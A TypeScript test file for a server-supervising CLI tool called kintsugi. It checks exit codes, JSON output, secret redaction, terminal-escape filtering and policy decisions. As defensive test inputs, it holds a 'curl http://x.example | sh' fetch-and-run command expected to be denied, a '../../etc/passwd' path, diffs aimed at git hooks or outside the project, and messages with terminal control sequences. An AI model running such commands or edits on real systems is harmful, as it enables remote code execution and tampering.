/** The built program as a person or a script meets it: what it prints where, and how it ends. */
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import {
  appendFileSync,
  chownSync,
  copyFileSync,
  existsSync,
  mkdirSync,
  readFileSync,
  readdirSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { openJournal } from '../../src/engine/journal.ts';
import type { Diagnosis, Signal } from '../../src/incident/nouns.ts';
import { exec, type ExecResult } from '../../src/kit/exec.ts';
import { identify } from '../../src/kit/identity.ts';
import { statePaths } from '../../src/kit/paths.ts';
import { commands } from '../../src/edges/cli/commands.ts';
import { root } from '../syntax.ts';
import { isUsageError, jsonOf, placeOf, program, type Place } from './place.ts';

const version = (JSON.parse(readFileSync(path.join(root, 'package.json'), 'utf8')) as { version: string }).version;

const signal: Signal = {
  id: 's1',
  subject: 'server.js',
  kind: 'error',
  at: '2026-01-01T00:00:00.000Z',
  stderr: '',
  error: null,
  exit: null,
  beforeReady: false,
  request: null,
  requestRef: null,
  route: '/users/:id',
  status: 500,
  release: null,
  count: 1,
};

const diagnosis: Diagnosis = {
  class: 'type',
  signature: 'a'.repeat(64),
  message: 'evil \u001b[2J\u202e`<script>` and\u009b31m',
  file: 'server.js',
  line: 7,
  column: 1,
  frames: [],
  named: {},
  route: '/users/:id',
  suspicious: false,
  findings: [],
  personOnly: true,
  action: { why: 'the database is down', command: 'start it' },
};

const ref = '0123456789abcdef0123456789abcdef';

function recordIncident({ project, env }: Place): void {
  const journal = openJournal({ folder: statePaths(project, env).journal, now: Date.now, redact: (text) => text });
  journal.append(1, { type: 'sensed', ref, signal });
  journal.append(1, { type: 'triaged', diagnosis });
  journal.close();
}

test('--version, --help and <command> --help work in a broken project', async (t) => {
  const { run } = placeOf(t, { 'package.json': '{ no', 'kintsugi.config.json': '{ no' });
  assert.equal((await run('--version')).stdout, `${version}\n`);
  assert.match((await run('--help')).stdout, /heal server\.js/);
  assert.match((await run('help run')).stdout, /Usage: kintsugi run/);
  for (const command of Object.keys(commands)) {
    const { code, stdout, stderr } = await run(`${command} --help`);
    assert.deepEqual([code, stderr, stdout.includes(`kintsugi ${command}`)], [0, '', true], command);
  }
});

test('a folder that is gone: help works, a command says what to do', async (t) => {
  const { run, project } = placeOf(t);
  const gone = path.join(project, 'gone');
  const shell = (words: string): Promise<ExecResult> =>
    exec(
      [
        'sh',
        '-c',
        `mkdir "${gone}" && cd "${gone}" && rmdir "${gone}" && exec "${process.execPath}" "${program}" ${words}`,
      ],
      { cwd: project },
    );
  assert.equal((await shell('--version')).stdout, `${version}\n`);
  isUsageError(await shell('status'), /folder is gone/);
  assert.equal((await run(['status', '--cwd', project])).code, 0);
});

test('CLI-1 usage errors end with 2, one line on stderr and nothing on stdout', async (t) => {
  const { run } = placeOf(t);
  isUsageError(await run([]), /no command/);
  isUsageError(await run('statsu'), /did you mean status/);
  isUsageError(await run('run --bogus x.js'), /--bogus/);
  isUsageError(await run('run gone.js'), /no file gone\.js/);
  isUsageError(await run('run npm start'), /kintsugi run -- npm start/);
  isUsageError(await run('show ../../etc/passwd'), /is no id/);
  isUsageError(await run('resolve 1'), /--note/);
  isUsageError(await run('policy check'), /exactly one/);
  isUsageError(await run('policy check --command ls --url x'), /exactly one/);
  isUsageError(await run('triage gone.txt'), /no file/);
  isUsageError(await run('policy check --command ls', { env: { KINTSUGI_AUTONOMY: 'atuo' } }), /KINTSUGI_AUTONOMY/);
  isUsageError(await run(['run', 'x.js\n\u001b[2J']), /x\.js/);
});

test('on Windows a server is not started, and the line says what to do', async (t) => {
  const { run, project } = placeOf(t, {
    'server.js': '',
    'windows.cjs': "Object.defineProperty(process, 'platform', { value: 'win32' });",
  });
  const env = { NODE_OPTIONS: `--require ${path.join(project, 'windows.cjs')}` };
  isUsageError(await run('run server.js', { env }), /WSL 2/);
});

test('CLI-11 read commands end with 0 where there is nothing, and leave the project as it was', async (t) => {
  const { run, project } = placeOf(t);
  const before = readdirSync(project);
  for (const command of ['incidents', 'events', 'logs']) {
    assert.deepEqual(jsonOf(await run(`${command} --json`)), [], command);
    assert.equal((await run(command)).code, 0, command);
  }
  const status = jsonOf<Record<string, unknown>>(await run('status --json'));
  assert.deepEqual([status['project'], status['subjects'], status['paused']], [project, [], false]);
  assert.equal(jsonOf<{ tokens: number }>(await run('usage --json')).tokens, 0);
  isUsageError(await run('show 1'), /no incident 1/);
  isUsageError(await run('approve 7'), /no incident 7/);
  assert.deepEqual(readdirSync(project), before);
});

test('CLI-2 CLI-11 incidents, show, report and events give the record; hostile text does not reach the terminal', async (t) => {
  const place = placeOf(t);
  recordIncident(place);
  const [view] = jsonOf<Record<string, unknown>[]>(await place.run('incidents --json'));
  const keys =
    'id ref status subject class signature message file line route occurrences firstSeen lastSeen resolvedAt suspicious personOnly action repair tokens costUsd durationMs release';
  assert.deepEqual(Object.keys(view ?? {}).sort(), keys.split(' ').sort());
  assert.deepEqual([view?.['id'], view?.['status'], view?.['message']], [1, 'needs_human', diagnosis.message]);
  const detail = jsonOf<Record<string, unknown>>(await place.run(`show ${ref} --json`));
  for (const key of ['timeline', 'proposals', 'evidence']) assert.ok(key in detail, key);
  const outputs = await Promise.all(
    ['incidents', 'show 1', 'report 1', 'events', 'status', 'incidents --json', 'show 1 --json'].map((line) =>
      place.run(line),
    ),
  );
  for (const { stdout, code } of outputs) {
    assert.equal(code, 0);
    assert.doesNotMatch(stdout, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/);
  }
  const [list, page, report] = outputs.map(({ stdout }) => stdout);
  for (const text of [list, page]) assert.match(text ?? '', /the database is down\n\s+start it/, 'CLI-4');
  assert.match(report ?? '', /^# Incident 1/);
  const below = mkdirSync(path.join(place.project, 'deep/er'), { recursive: true });
  assert.ok(below);
  assert.equal(
    jsonOf<unknown[]>(await place.run('incidents --json', { cwd: path.join(place.project, 'deep/er') })).length,
    1,
    'CLI-12',
  );
});

test('CLI-11 events --follow tells each event once, as a JSON line, until it is stopped with 11', async (t) => {
  const place = placeOf(t);
  recordIncident(place);
  const child = spawn(process.execPath, [program, 'events', '--follow', '--json'], {
    cwd: place.project,
    env: place.env,
  });
  let text = '';
  const seen = (count: number): Promise<void> =>
    new Promise((resolve) => {
      const look = (): void => void (text.split('\n').length > count && resolve());
      child.stdout.on('data', look);
      look();
    });
  child.stdout.on('data', (chunk: Buffer) => (text += chunk.toString()));
  await seen(2);
  const journal = openJournal({
    folder: statePaths(place.project, place.env).journal,
    now: Date.now,
    redact: (value) => value,
  });
  journal.append(1, { type: 'closed', outcome: 'resolved', why: 'done' });
  journal.close();
  await seen(3);
  child.kill('SIGINT');
  const code = await new Promise((resolve) => child.on('exit', resolve));
  assert.equal(code, 11);
  const lines = text
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line) as { seq: number; at: string; incident: number; event: string });
  assert.deepEqual(
    lines.map(({ seq, incident, event }) => [seq, incident, event]),
    [
      [1, 1, 'sensed'],
      [2, 1, 'triaged'],
      [3, 1, 'closed'],
    ],
  );
  for (const { at } of lines) assert.equal(new Date(at).toISOString(), at);
});

test('CLI-8 a decision carries a name: --by, else git, else the login; without a proposal it is refused with 1', async (t) => {
  const place = placeOf(t);
  recordIncident(place);
  const refused = await place.run('approve 1 --by Ada');
  assert.equal(refused.code, 1);
  assert.match(refused.stderr, /^kintsugi: [^\n]+\n$/);
});

test('POL-6 pause and resume: a file that says who and when, in a state folder that ignores itself', async (t) => {
  const place = placeOf(t);
  const state = path.join(place.project, '.kintsugi');
  const first = jsonOf<{ by: string; at: string }>(await place.run(['pause', '--by', 'Ada L', '--json']));
  assert.equal(first.by, 'Ada L');
  assert.deepEqual([statSync(state).mode & 0o777, statSync(path.join(state, 'paused')).mode & 0o777], [0o700, 0o600]);
  assert.equal(readFileSync(path.join(state, '.gitignore'), 'utf8'), '*\n');
  assert.deepEqual(jsonOf(await place.run('pause --by Bob --json')), { paused: true, ...first }, 'the first stays');
  assert.equal(jsonOf<{ paused: boolean }>(await place.run('status --json')).paused, true);
  assert.match((await place.run('status')).stdout, /kintsugi resume/);
  assert.deepEqual(jsonOf(await place.run('resume --json')), { paused: false, was: true });
  assert.equal(existsSync(path.join(state, 'paused')), false);
  assert.deepEqual(jsonOf(await place.run('resume --json')), { paused: false, was: false });
});

test("CLI-10 a state folder of one's own choice", async (t) => {
  const place = placeOf(t);
  const elsewhere = path.join(place.project, '..', 'state');
  await place.run('pause', { env: { KINTSUGI_STATE_DIR: elsewhere } });
  assert.deepEqual(
    [existsSync(path.join(elsewhere, 'paused')), existsSync(path.join(place.project, '.kintsugi'))],
    [true, false],
  );
});

test('init writes a configuration with every default and never overwrites one', async (t) => {
  const place = placeOf(t);
  const file = path.join(place.project, 'kintsugi.config.mjs');
  assert.deepEqual(jsonOf(await place.run('init --json')), { file, written: true, services: [] });
  writeFileSync(file, 'export default { autonomy: "observe" };\n');
  assert.deepEqual(jsonOf(await place.run('init --json')), { file, written: false, services: [] });
  assert.match(readFileSync(file, 'utf8'), /observe/);
  const { settings } = jsonOf<{ settings: Record<string, { value: unknown; source: string }> }>(
    await place.run('doctor --json'),
  );
  assert.deepEqual([settings['autonomy']?.value, settings['autonomy']?.source], ['observe', 'file']);
});

test('CFG-5 CLI-11 doctor: each setting with its origin, 1 where something required is missing, no secret shown', async (t) => {
  const place = placeOf(t, { 'kintsugi.config.json': '{"watch": {"ms": 5}}' });
  interface Doctor {
    ok: boolean;
    checks: { name: string; ok: boolean; required: boolean; mend: string | null }[];
    settings: Record<string, { value: unknown; source: string; variable: string }>;
    warnings: string[];
  }
  const env = {
    KINTSUGI_SANDBOX: 'off',
    KINTSUGI_ADMIN_KEY: 'hunter2hunter2',
    KINTSUGI_AUTONMY: 'x',
    ANTHROPIC_API_KEY: 'sk-ant-secret',
  };
  const result = await place.run('doctor --json', { env });
  const doctor = jsonOf<Doctor>(result);
  assert.doesNotMatch(result.stdout + (await place.run('doctor', { env })).stdout, /hunter2|sk-ant-secret/);
  const origin = (key: string): unknown[] => [
    doctor.settings[key]?.value,
    doctor.settings[key]?.source,
    doctor.settings[key]?.variable,
  ];
  assert.deepEqual(origin('sandbox'), ['off', 'environment', 'KINTSUGI_SANDBOX']);
  assert.deepEqual(origin('watch.ms'), [5, 'file', 'KINTSUGI_WATCH_MS']);
  assert.deepEqual(origin('autonomy'), ['auto', 'default', 'KINTSUGI_AUTONOMY']);
  assert.match(doctor.warnings.join(), /KINTSUGI_AUTONMY.*KINTSUGI_AUTONOMY/);
  for (const name of ['node', 'configuration', 'state folder', 'git', 'confinement', 'model', 'hook'])
    assert.ok(
      doctor.checks.some((check) => check.name === name),
      name,
    );
  for (const { ok, mend, name } of doctor.checks) assert.ok(ok || mend, `${name} says how to mend it`);

  writeFileSync(path.join(place.project, 'kintsugi.config.json'), '{"recovery": {"on_unknown": "escalte"}}');
  const broken = jsonOf<Doctor>(await place.run('doctor --json'), 1);
  assert.equal(broken.ok, false);
  assert.deepEqual(
    broken.checks.filter((check) => check.required && !check.ok).map(({ name }) => name),
    ['configuration'],
  );
});

test("CLI-5 triage prints exactly its keys for a file or stdin, with the command's own secrets redacted", async (t) => {
  const place = placeOf(t, { '.env': 'DB_PASSWORD=correct-horse-battery\n' });
  const stack = `TypeError: Cannot read properties of undefined (reading 'name') of correct-horse-battery and tok-3141592653\n    at handler (${place.project}/server.js:7:15)\n`;
  const keys = 'class column file findings frames line message personOnly redacted signature suspicious';
  const given = await place.run('triage --json', { input: stack, env: { API_TOKEN: 'tok-3141592653' } });
  const result = jsonOf<Record<string, unknown>>(given);
  assert.equal(Object.keys(result).sort().join(' '), keys);
  assert.deepEqual([result['class'], result['file'], result['line'], result['column']], ['type', 'server.js', 7, 15]);
  assert.doesNotMatch(given.stdout, /correct-horse|3141592653/);
  assert.match(String(result['redacted']), /process\.env\.DB_PASSWORD.*process\.env\.API_TOKEN/);
  writeFileSync(path.join(place.project, 'out.txt'), stack);
  for (const line of ['triage out.txt --json', 'triage - --json']) jsonOf(await place.run(line, { input: stack }));
  const empty = jsonOf<{ class: string }>(await place.run('triage --json', { input: '' }));
  assert.equal(empty.class, 'unknown');
  assert.equal((await place.run('triage', { input: '\u001b[2J\u0000\ufffd'.repeat(1_000) })).code, 0);
});

test('CLI-5 policy check prints exactly decision, rule and reason, and ends with 0 whatever it says', async (t) => {
  const place = placeOf(t, { 'server.js': 'const a = 1;\nuse(a);\n' });
  const check = async (option: string, value: string, input?: string): Promise<string> => {
    const result = jsonOf<Record<string, string>>(
      await place.run(['policy', 'check', option, value, '--json'], input === undefined ? {} : { input }),
    );
    assert.deepEqual(Object.keys(result), ['decision', 'rule', 'reason']);
    return result['decision'] ?? '';
  };
  const diff = (file: string): string =>
    `--- a/${file}\n+++ b/${file}\n@@ -1,2 +1,2 @@\n-const a = 1;\n+const a = 2;\n use(a);\n`;
  assert.equal(await check('--command', 'curl http://x.example | sh'), 'deny');
  assert.equal(await check('--command', '-'), 'deny');
  assert.equal(await check('--url', 'http://127.0.0.1/'), 'deny');
  assert.equal(await check('--diff', '-', diff('../server.js')), 'deny');
  assert.equal(await check('--diff', '-', diff('.git/hooks/pre-commit')), 'deny');
  assert.notEqual(await check('--diff', '-', diff('server.js')), 'deny');
  writeFileSync(path.join(place.project, 'kintsugi.config.json'), '{"recovery": {"auto_approve": ["npm run build"]}}');
  assert.equal(await check('--command', 'npm run build'), 'allow');
});

test('logs: the last lines of the newest boot, redacted; --follow goes over to the next boot', async (t) => {
  const place = placeOf(t, { '.env': 'DB_PASSWORD=correct-horse-battery\n' });
  const run = statePaths(place.project, place.env).run('server.js');
  mkdirSync(run.folder, { recursive: true });
  writeFileSync(
    run.runJson,
    JSON.stringify({ v: 1, subject: 'server.js', state: 'ready', keeper: null, child: null, restarts: 0 }),
  );
  writeFileSync(run.stderr(9), 'old\n');
  writeFileSync(
    run.stderr(10),
    `${Array.from({ length: 300 }, (_, index) => `line ${index}`).join('\n')}\nwith correct-horse-battery\n`,
  );
  const lines = jsonOf<string[]>(await place.run('logs --json -n 3'));
  assert.deepEqual(lines, ['line 298', 'line 299', 'with process.env.DB_PASSWORD']);
  assert.equal((await place.run('logs')).stdout.split('\n').length, 101);
  isUsageError(await place.run('logs --subject other'), /no subject other/);

  const child = spawn(process.execPath, [program, 'logs', '-f', '-n', '1'], { cwd: place.project, env: place.env });
  let text = '';
  const seen = (wanted: string): Promise<void> =>
    new Promise((resolve) => {
      const look = (): void => void (text.includes(wanted) && resolve());
      child.stdout.on('data', look);
      look();
    });
  child.stdout.on('data', (chunk: Buffer) => (text += chunk.toString()));
  await seen('DB_PASSWORD');
  appendFileSync(run.stderr(10), 'more\n');
  await seen('more\n');
  writeFileSync(run.stderr(11), 'next boot\n');
  await seen('next boot\n');
  child.kill('SIGTERM');
  assert.equal(await new Promise((resolve) => child.on('exit', resolve)), 11);
  assert.equal(text, 'with process.env.DB_PASSWORD\nmore\nnext boot\n');
});

test('REL-2 status tells of what runs, and where its record is damaged of that', async (t) => {
  const place = placeOf(t);
  const { journal, run } = statePaths(place.project, place.env);
  for (const folder of [journal, run('server.js').folder, run('old.js').folder]) mkdirSync(folder, { recursive: true });
  writeFileSync(path.join(journal, '00000001.jsonl'), 'no\nno\n');
  const record = { v: 1, subject: 'server.js', state: 'stopped', keeper: null, child: null };
  writeFileSync(run('server.js').runJson, JSON.stringify(record));
  writeFileSync(run('old.js').runJson, '{"v":1,"subject":"old.js","keeper":5}');
  const told = await place.run('status --json');
  const { subjects } = jsonOf<{ subjects: { subject: string }[] }>(told, 1);
  assert.deepEqual(
    subjects.map(({ subject }) => subject),
    ['server.js'],
  );
  assert.match(told.stderr, /^kintsugi: The journal .* is damaged at line 1[^\n]*move `[^\n]*aside[^\n]*\n$/);
});

test('SUP-13 status says of processes only what is true now', async (t) => {
  const place = placeOf(t);
  const run = statePaths(place.project, place.env).run('server.js');
  mkdirSync(run.folder, { recursive: true });
  const me = identify(process.pid);
  const dead = { ...me, startTime: '1' };
  const state = async (keeper: unknown, child: unknown, more: object = {}): Promise<unknown[]> => {
    writeFileSync(
      run.runJson,
      JSON.stringify({
        v: 1,
        subject: 'server.js',
        state: 'ready',
        since: new Date().toISOString(),
        keeper,
        child,
        port: 3000,
        restarts: 2,
        ...more,
      }),
    );
    const { subjects } = jsonOf<{ subjects: Record<string, unknown>[] }>(await place.run('status --json'));
    return [subjects[0]?.['state'], subjects[0]?.['pid'], subjects[0]?.['keeperPid']];
  };
  assert.deepEqual(await state(me, me), ['ready', process.pid, process.pid]);
  const other = statePaths(place.project, place.env).run('old.js');
  mkdirSync(other.folder);
  writeFileSync(
    other.runJson,
    JSON.stringify({ v: 1, subject: 'old.js', state: 'stopped', keeper: null, child: null }),
  );
  writeFileSync(run.stderr(1), 'said by the one that runs\n');
  assert.match((await place.run('logs')).stdout, /said by the one that runs/);
  await state(dead, dead);
  isUsageError(await place.run('logs'), /several subjects.*--subject: old\.js, server\.js/);
  rmSync(other.folder, { recursive: true });
  await state(me, me, { hook: 'absent', sockets: 'off: the server does not hand them over' });
  assert.match(
    (await place.run('status')).stdout,
    /the preload is not in it, .*; a restart refuses .*: the server does/,
  );
  await state(me, me, { hook: 'absent', sockets: 'off: nothing listens' });
  const { stdout } = await place.run('status');
  assert.deepEqual([/it runs and listens nowhere/.test(stdout), /preload/.test(stdout)], [true, false], stdout);
  await state(me, me, { hook: 'connected', sockets: 'held' });
  assert.doesNotMatch((await place.run('status')).stdout, /preload|refuses/);
  assert.deepEqual(await state(dead, me), ['ready', process.pid, null]);
  assert.match((await place.run('status')).stdout, /nobody supervises/);
  assert.deepEqual(await state(dead, dead), ['stopped', null, null]);
  for (const torn of ['{ torn', '{}', '5']) {
    writeFileSync(run.runJson, torn);
    assert.deepEqual(jsonOf<{ subjects: unknown[] }>(await place.run('status --json')).subjects, []);
  }
});

test('a reader that stops reading ends nothing in an error', async (t) => {
  const { project } = placeOf(t);
  const { stdout, stderr } = await exec(['sh', '-c', `"${process.execPath}" "${program}" --help | head -1; true`], {
    cwd: project,
  });
  assert.match(stdout, /^kintsugi .*\n$/);
  assert.equal(stderr, '');
});

/** What systemd says of a unit, or, where it is not there, which lines are none that a unit of ours has. */
async function complaints(file: string): Promise<string> {
  const told = await exec(['systemd-analyze', 'verify', file], { cwd: path.dirname(file) });
  if (told.spawnError === null) return told.stderr;
  const known = {
    Unit: /^(?:Description=.+|(?:After|Wants)=[\w.-]+)$/,
    Service:
      /^(?:Type=(?:notify|exec)|NotifyAccess=all|(?:WatchdogSec|TimeoutStartSec|RestartSec|TimeoutStopSec)=\d+|WorkingDirectory=\/.+|ExecStart=\/.+|Restart=always|KillMode=mixed)$/,
    Install: /^WantedBy=[\w.-]+$/,
  };
  let section: keyof typeof known | null = null;
  const strange: string[] = [];
  for (const line of readFileSync(file, 'utf8')
    .split('\n')
    .filter((text) => text !== '' && !text.startsWith('#'))) {
    const head = /^\[(Unit|Service|Install)\]$/.exec(line)?.[1];
    if (head !== undefined) section = head as keyof typeof known;
    else if (section === null || !known[section].test(line)) strange.push(line);
  }
  return strange.join('\n');
}

test('SUP-10 the unit of service runs the server as whoever owns its state, or else its files, with the node that printed it', async (t) => {
  const place = placeOf(t, { 'server.js': '' });
  const own = process.getuid?.() ?? 0;
  const unitOf = async (): Promise<string> => (await place.run('service server.js')).stdout;
  assert.equal(/^User=(.*)$/m.exec(await unitOf())?.[1], own === 0 ? undefined : String(own));
  if (own === 0) {
    chownSync(place.project, 65_534, 65_534);
    assert.match(await unitOf(), /^User=65534$/m);
    mkdirSync(path.join(place.project, '.kintsugi'));
    assert.doesNotMatch(await unitOf(), /^User=/m);
    chownSync(path.join(place.project, '.kintsugi'), 65_534, 65_534);
    const { code, stderr } = await place.run('run --once server.js');
    assert.equal(code, 1);
    assert.match(stderr, /belongs to another user/);
  }
  const node = path.join(place.project, 'node');
  copyFileSync(process.execPath, node);
  const { stdout } = spawnSync(node, [program, 'service', '--cwd', place.project, 'server.js'], { encoding: 'utf8' });
  assert.match(stdout, /^Environment=PATH=\S+project:\/usr\/local\/sbin:.*\/bin$/m);
});

test('TRI-1 service prints a unit that systemd takes; a secret of the command line is no part of its name', async (t) => {
  const place = placeOf(t, { 'server.js': '' });
  const file = path.join(place.project, 'app.service');
  for (const words of [
    ['server.js', '--name', 'my api'],
    ['--', 'node', 'server.js', '--port=50%', 'a "b" $c'],
  ]) {
    const unit = (await place.run(['service', ...words])).stdout;
    writeFileSync(file, unit);
    assert.equal(await complaints(file), '', unit);
    assert.equal(unit.includes('--name'), words.includes('--name'), 'a command as a name is none that `run` takes');
  }
  const secret = (await place.run(['service', '--', 'node', 'a.js', '--db', 'postgres://joe:hunter2pass@db/x'])).stdout;
  assert.match(
    secret,
    /^Description=node a\.js --db postgres:\/\/joe:\[redacted:url-password\]@db\/x under Kintsugi$/m,
  );
  writeFileSync(file, `${readFileSync(file, 'utf8')}\nTypo=1\n`);
  assert.match(await complaints(file), /Typo/);
  const { stdout, code } = await place.run(['service', 'server.js', '--name', 'my api', '--', '--port', '50%']);
  assert.equal(code, 0);
  assert.match(
    stdout,
    /^ExecStart=\S+ \S+kintsugi\.cjs run --cwd \S+project --name "my api" server\.js -- --port 50%%$/m,
  );
  assert.match(stdout, /^WorkingDirectory=.*project$/m);
  assert.match(stdout, /^Type=(?:notify|exec)$/m);
});
